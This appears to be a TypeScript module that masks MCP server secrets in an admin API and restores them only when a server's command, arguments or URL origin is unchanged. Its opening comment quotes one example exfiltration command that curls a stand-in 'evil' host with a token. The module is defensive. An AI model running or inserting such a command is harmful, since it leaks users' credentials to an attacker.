// The secrets of the mcpServers setting (env and header values) as the admin API shows and takes
// them: masked going out, and a mask coming back kept only where the secret was given. A kept
// secret never follows its server elsewhere: a save that changed github's command to
// `sh -c 'curl evil?$TOKEN'` must not take GITHUB_TOKEN with it.
import {
  type McpHttpServer,
  type McpServerConfig,
  type McpServers,
  type McpStdioServer,
  serverPath,
} from '../../contract/mcp-servers.ts';
import { MASKED_SECRET } from '../../contract/net-policy.ts';

const maskValues = (values: Record<string, string>) =>
  Object.fromEntries(Object.keys(values).map((name) => [name, MASKED_SECRET]));

/** The servers with every env and header value masked; names, commands, args and URLs shown. */
export function maskMcpServers(servers: McpServers): McpServers {
  return Object.fromEntries(
    Object.entries(servers).map(([name, config]) => [name, maskConfig(config)]),
  );
}

function maskConfig(config: McpServerConfig): McpServerConfig {
  if ('command' in config) return config.env ? { ...config, env: maskValues(config.env) } : config;
  return config.headers ? { ...config, headers: maskValues(config.headers) } : config;
}

/**
 * `servers` with each masked value put back from `current`: the same server name and key, while
 * the server keeps its command and args (stdio) or its URL's origin (HTTP). Any other mask is a
 * problem telling the user to type the value.
 */
export function unmaskMcpServers(
  servers: McpServers,
  current: McpServers,
): { servers: McpServers; problems: string[] } {
  const problems: string[] = [];
  const unmasked = Object.entries(servers).map(([name, config]) => {
    const saved = Object.hasOwn(current, name) ? current[name] : undefined;
    const keep = (field: 'env' | 'headers', values: Record<string, string>, from?: Kept) =>
      Object.fromEntries(
        Object.entries(values).map(([key, value]) => {
          if (value !== MASKED_SECRET) return [key, value];
          const kept = from?.(key);
          if (kept === undefined) problems.push(noValueToKeep(name, field, key));
          return [key, kept ?? value];
        }),
      );
    if ('command' in config) {
      const { env } = config;
      return [name, env ? { ...config, env: keep('env', env, keptEnv(config, saved)) } : config];
    }
    const { headers } = config;
    return [
      name,
      headers
        ? { ...config, headers: keep('headers', headers, keptHeaders(config, saved)) }
        : config,
    ];
  });
  return { servers: Object.fromEntries(unmasked), problems };
}

/** A saved value by its key, where one may be kept. */
type Kept = (key: string) => string | undefined;

function keptEnv(config: McpStdioServer, saved: McpServerConfig | undefined): Kept | undefined {
  if (!saved || !('command' in saved) || !saved.env) return undefined;
  const sameArgs = JSON.stringify(saved.args ?? []) === JSON.stringify(config.args ?? []);
  if (saved.command !== config.command || !sameArgs) return undefined;
  const { env } = saved;
  return (key) => (Object.hasOwn(env, key) ? env[key] : undefined);
}

function keptHeaders(config: McpHttpServer, saved: McpServerConfig | undefined): Kept | undefined {
  if (!saved || !('url' in saved) || !saved.headers) return undefined;
  if (originOf(saved.url) === undefined || originOf(saved.url) !== originOf(config.url)) {
    return undefined;
  }
  const { headers } = saved;
  // Header names are case-insensitive, as for netHeaders.
  return (key) => {
    const name = Object.keys(headers).find((old) => old.toLowerCase() === key.toLowerCase());
    return name === undefined ? undefined : headers[name];
  };
}

function originOf(url: string): string | undefined {
  try {
    return new URL(url).origin;
  } catch {
    return undefined;
  }
}

function noValueToKeep(name: string, field: 'env' | 'headers', key: string): string {
  const given = field === 'env' ? 'command and args' : "URL's origin";
  const what = field === 'env' ? 'variable' : 'header';
  return `mcpServers: ${serverPath(name)}.${field} ${JSON.stringify(key)} has no value to keep (a saved value stays with the server name, ${what} and ${given} it was given for): type it`;
}
